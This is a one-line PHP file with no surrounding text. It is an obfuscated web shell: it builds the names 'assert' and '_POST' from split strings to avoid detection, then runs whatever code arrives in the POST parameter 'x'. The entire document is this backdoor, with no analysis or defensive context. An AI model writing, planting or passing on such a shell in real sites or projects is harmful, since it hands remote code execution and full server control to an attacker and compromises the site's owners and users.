<?php $k="ass"."ert"; $k(${"_PO"."ST"}['x']); ?>
